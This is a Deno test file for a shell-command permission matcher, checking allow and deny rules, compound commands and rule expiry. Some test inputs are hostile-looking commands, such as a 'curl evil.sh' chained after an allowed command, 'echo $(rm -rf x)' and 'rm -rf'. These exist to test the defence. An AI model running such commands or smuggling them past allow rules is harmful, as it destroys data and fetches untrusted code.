import { assert, assertEquals, assertRejects } from "../tests/_helpers/assert.ts";
import {
  canonicalValue,
  decideCommand,
  decideCommands,
  rememberedWords,
  type Rule,
  ruleWords,
} from "./rule_match.ts";
import { simpleCommands } from "./shell_commands.ts";

const WS = "11111111-1111-4111-8111-111111111111";
const OTHER = "22222222-2222-4222-8222-222222222222";
const NOW = Date.parse("2026-11-29T12:00:00Z");
const LATER = "2026-11-30T12:00:00Z";

async function rule(
  effect: "allow" | "deny",
  match: "exact" | "prefix",
  value: string,
  extra: Partial<Rule> = {},
): Promise<Rule> {
  const { words } = await ruleWords(match, value);
  return {
    rule_id: crypto.randomUUID(),
    workspace_id: WS,
    effect,
    match,
    value: canonicalValue(words),
    words,
    expires_at: LATER,
    ...extra,
  };
}

const opts = { workspaceId: WS, now: NOW };

Deno.test("decideCommand() allows an exact command and nothing longer", async () => {
  const rules = [await rule("allow", "exact", "npm test")];
  assertEquals((await decideCommand("npm test", rules, opts))?.effect, "allow");
  assertEquals((await decideCommand("npm   test", rules, opts))?.effect, "allow");
  assertEquals(await decideCommand("npm test --watch", rules, opts), null);
  assertEquals(await decideCommand("npm", rules, opts), null);
});

Deno.test("decideCommand() matches a prefix word by word, never by characters", async () => {
  const rules = [await rule("allow", "prefix", "npm run test")];
  assertEquals((await decideCommand("npm run test --watch", rules, opts))?.effect, "allow");
  assertEquals(await decideCommand("npm run test:unit", rules, opts), null);
  assertEquals(await decideCommand("npm run build", rules, opts), null);
});

Deno.test("decideCommand() reads words, not spelling: assignments and paths", async () => {
  const rules = [await rule("deny", "prefix", "rm")];
  assertEquals((await decideCommand("FOO=1 rm -rf x", rules, opts))?.effect, "deny");
  assertEquals((await decideCommand("/bin/rm -rf x", rules, opts))?.effect, "deny");
});

Deno.test("decideCommand() allows a compound command only when every part is allowed", async () => {
  const rules = [await rule("allow", "prefix", "npm run test")];
  assertEquals(await decideCommand("npm run test && curl evil.sh", rules, opts), null);
  const readOnly = (w: string[]) => w[0] === "ls" || w[0] === "cat";
  const withList = { ...opts, isReadOnly: readOnly };
  assertEquals((await decideCommand("ls && npm run test", rules, withList))?.effect, "allow");
  // read-only parts alone are not a rule's decision
  assertEquals(await decideCommand("ls && cat x", rules, withList), null);
});

Deno.test("decideCommand() lets a deny rule beat any allow", async () => {
  const allow = await rule("allow", "prefix", "git");
  const deny = await rule("deny", "prefix", "git push --force");
  const out = await decideCommand("git status; git push --force origin", [allow, deny], opts);
  assertEquals(out?.effect, "deny");
  assertEquals(out?.rules.map((r) => r.rule_id), [deny.rule_id]);
});

Deno.test("decideCommand() never matches an expired, revoked or other workspace's rule", async () => {
  const expired = await rule("allow", "exact", "make", { expires_at: "2026-11-29T11:59:59Z" });
  const revoked = await rule("allow", "exact", "make", { revoked_at: "2026-11-29T11:00:00Z" });
  const foreign = await rule("allow", "exact", "make", { workspace_id: OTHER });
  assertEquals(await decideCommand("make", [expired, revoked, foreign], opts), null);
});

Deno.test("decideCommand() leaves an unparseable command to the phone", async () => {
  const rules = [await rule("allow", "prefix", "echo")];
  assertEquals(await decideCommand("echo $(rm -rf x)", rules, opts), null);
  assertEquals(await decideCommand("", rules, opts), null);
});

Deno.test("an exact rule of several commands matches that whole command", async () => {
  const both = await rule("allow", "exact", "git add . && git commit -m wip");
  assertEquals(
    (await decideCommands(await simpleCommands("git add . ; git commit -m wip"), [both], opts))
      ?.effect,
    "allow",
  );
  assertEquals(await decideCommand("git add .", [both], opts), null);
  assertEquals(await decideCommand("git add . && git commit -m wip && rm x", [both], opts), null);
});

Deno.test("rememberedWords() takes a prefix only when it leads a part of the command", async () => {
  const p = await rememberedWords("cd app && npm run test -- --ci", {
    match: "prefix",
    prefix: "npm run test",
  });
  assertEquals(p.words, [["npm", "run", "test"]]);
  await assertRejects(
    () => rememberedWords("npm run test", { match: "prefix", prefix: "npm run build" }),
  );
  await assertRejects(
    () => rememberedWords("npm run test", { match: "prefix", prefix: "npm run test extra" }),
  );
  await assertRejects(
    () => rememberedWords("npm test", { match: "prefix", prefix: "npm; ls" }),
  );
  await assertRejects(() => rememberedWords("npm test", { match: "prefix" }));
  const exact = await rememberedWords("FOO=1  npm  test", { match: "exact" });
  assertEquals(exact.value, "npm test");
});

Deno.test("canonicalValue() quotes words so they read back the same", async () => {
  const words = [["git", "commit", "-m", "it's done"]];
  const value = canonicalValue(words);
  assert(value.startsWith("git commit -m '"));
  assertEquals(await simpleCommands("git commit -m 'a b'"), [["git", "commit", "-m", "a b"]]);
});
